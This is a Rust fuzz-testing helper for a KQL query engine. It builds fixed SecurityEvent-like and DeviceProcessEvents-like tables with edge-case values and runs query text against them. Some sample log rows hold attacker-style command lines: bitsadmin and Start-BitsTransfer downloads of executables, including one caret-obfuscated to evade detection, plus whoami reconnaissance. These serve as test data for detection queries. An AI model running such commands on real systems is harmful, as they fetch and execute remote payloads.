//! The engine the `query` target runs text against: a few small tables in the shapes of the
//! project's sample data, with every Kusto type, nulls, an empty string and a dynamic column.

use std::sync::{Arc, OnceLock};
use std::time::Duration;

use arrow::array::{
    ArrayRef, BooleanArray, DurationNanosecondArray, Float64Array, Int32Array, Int64Array,
    RecordBatch, StringArray, TimestampNanosecondArray,
};
use arrow::datatypes::Schema;
use kql_engine::types::KustoType;
use kql_engine::{Engine, Limits, Options};

/// One minute, in nanoseconds.
const MINUTE: i64 = 60_000_000_000;

/// The engine with the fixed tables, built once per process: registering them is not what is
/// being fuzzed, and doing it for every input would only slow the runs down.
pub fn engine() -> &'static Engine {
    static ENGINE: OnceLock<Engine> = OnceLock::new();
    ENGINE.get_or_init(build_engine)
}

fn build_engine() -> Engine {
    // A query may be slow or huge by design (a cross join, a long `range`): the engine's own
    // budgets stop it with an error well before libFuzzer's timeout or memory limit would,
    // so only real hangs and leaks reach those.
    let limits = Limits {
        join_max_rows: Some(1_000_000),
        time_budget: Some(Duration::from_secs(2)),
        ..Limits::default()
    };
    let options = Options {
        now: Some(crate::NOW),
        limits,
        ..Options::default()
    };
    let mut engine = Engine::new().with_options(options);
    let tables = [
        ("SecurityEvent", security_event()),
        ("DeviceProcessEvents", device_process_events()),
    ];
    for (name, batch) in tables {
        engine
            .register_batches(name, vec![batch])
            .expect("the fixed tables are valid");
    }
    // A table without rows: operators must cope with empty input.
    let empty = Arc::new(Schema::new(vec![
        KustoType::String.field("Name"),
        KustoType::Long.field("Value"),
    ]));
    engine
        .register_schema_batches("Empty", &empty, Vec::new())
        .expect("the empty table is valid");
    engine
}

/// `SecurityEvent`-like rows: process creations (4688) and logons (4624, 4625).
fn security_event() -> RecordBatch {
    let times = [-3, -2, -2, -1, 0].map(|days| crate::NOW + days * 1_440 * MINUTE - 7 * MINUTE);
    let columns: Vec<(KustoType, &str, ArrayRef)> = vec![
        (
            KustoType::DateTime,
            "TimeGenerated",
            Arc::new(datetimes(&times)),
        ),
        (
            KustoType::String,
            "Computer",
            strings(&["WS-FIN-07", "WS-FIN-07", "SRV-APP-02", "", "DC01"]),
        ),
        (
            KustoType::Int,
            "EventID",
            Arc::new(Int32Array::from(vec![4688, 4688, 4624, 4625, 4688])),
        ),
        (
            KustoType::String,
            "Account",
            strings(&[
                r"CONTOSO\jdoe",
                r"CONTOSO\jdoe",
                "svc_build",
                "",
                r"CONTOSO\asmith",
            ]),
        ),
        (
            KustoType::String,
            "CommandLine",
            strings(&[
                "bitsadmin /transfer job /download /priority normal https://x/a.exe C:\\a.exe",
                "cmd.exe /c b^i^t^s^a^d^min /transfer j /download http://198.51.100.23/p.exe",
                "",
                "powershell Start-BitsTransfer -Source http://x/y -Destination C:\\y",
                "notepad.exe",
            ]),
        ),
        (
            KustoType::Long,
            "ProcessId",
            Arc::new(Int64Array::from(vec![
                Some(4242),
                Some(7),
                None,
                Some(-1),
                Some(i64::MAX),
            ])),
        ),
        (
            KustoType::Real,
            "Score",
            Arc::new(Float64Array::from(vec![
                Some(0.5),
                None,
                Some(-0.0),
                Some(1e300),
                Some(3.0),
            ])),
        ),
        (
            KustoType::Bool,
            "Elevated",
            Arc::new(BooleanArray::from(vec![
                Some(true),
                Some(false),
                None,
                Some(true),
                None,
            ])),
        ),
        (
            KustoType::TimeSpan,
            "Duration",
            Arc::new(DurationNanosecondArray::from(vec![
                Some(MINUTE),
                None,
                Some(0),
                Some(-90 * MINUTE),
                Some(1_000),
            ])),
        ),
        (
            KustoType::Dynamic,
            "EventData",
            strings(&[
                r#"{"SubjectUserName":"jdoe","Ports":[80,443],"Nested":{"a":null}}"#,
                r#"["x", 1, 2.5, true]"#,
                "",
                "42",
                r#""just a string""#,
            ]),
        ),
        (
            KustoType::Guid,
            "ActivityId",
            strings(&["8b5d7a1e-2f4c-4e0a-9d5b-3c6f1a2b7e90", "", "", "", ""]),
        ),
    ];
    batch(columns)
}

/// `DeviceProcessEvents`-like rows sharing times and names with `SecurityEvent`, for joins.
fn device_process_events() -> RecordBatch {
    let times = [-2, -1, 0].map(|days| crate::NOW + days * 1_440 * MINUTE - 7 * MINUTE);
    let columns: Vec<(KustoType, &str, ArrayRef)> = vec![
        (
            KustoType::DateTime,
            "TimeGenerated",
            Arc::new(datetimes(&times)),
        ),
        (
            KustoType::String,
            "DeviceName",
            strings(&["WS-FIN-07", "DC01", "ws-fin-07"]),
        ),
        (
            KustoType::String,
            "ProcessCommandLine",
            strings(&["bitsadmin /resume job", "whoami /all", ""]),
        ),
        (
            KustoType::String,
            "InitiatingProcessCommandLine",
            strings(&["cmd.exe", "", "explorer.exe"]),
        ),
        (
            KustoType::Long,
            "ProcessId",
            Arc::new(Int64Array::from(vec![Some(4242), None, Some(0)])),
        ),
    ];
    batch(columns)
}

fn batch(columns: Vec<(KustoType, &str, ArrayRef)>) -> RecordBatch {
    let fields: Vec<_> = columns
        .iter()
        .map(|(ty, name, _)| ty.field(*name))
        .collect();
    let arrays = columns.into_iter().map(|(_, _, array)| array).collect();
    RecordBatch::try_new(Arc::new(Schema::new(fields)), arrays).expect("columns match fields")
}

fn strings(values: &[&str]) -> ArrayRef {
    Arc::new(StringArray::from(values.to_vec()))
}

fn datetimes(nanos: &[i64]) -> TimestampNanosecondArray {
    TimestampNanosecondArray::from(nanos.to_vec()).with_timezone("UTC")
}

/// Runs `text` over the fixed tables, and binds it against the catalog too; an answer must
/// be a well-formed table, an error must render against the text.
///
/// # Panics
///
/// When the engine panics, or when a result batch does not have its table's schema.
pub fn run_query(text: &str) {
    let engine = engine();
    match engine.run(text) {
        Ok(result) => {
            for table in &result.tables {
                for batch in &table.batches {
                    assert_eq!(batch.schema(), table.schema, "a batch has another schema");
                }
            }
        }
        Err(error) => render(&error, text),
    }
    // `check` binds against the built-in schemas as well, without running.
    if let Err(error) = engine.check(text) {
        render(&error, text);
    }
}

fn render(error: &kql_engine::Error, text: &str) {
    let _ = error.to_string();
    if let kql_engine::Error::Query(diagnostics) = error {
        for diagnostic in diagnostics {
            let _ = diagnostic.render(text, "query");
        }
    }
}
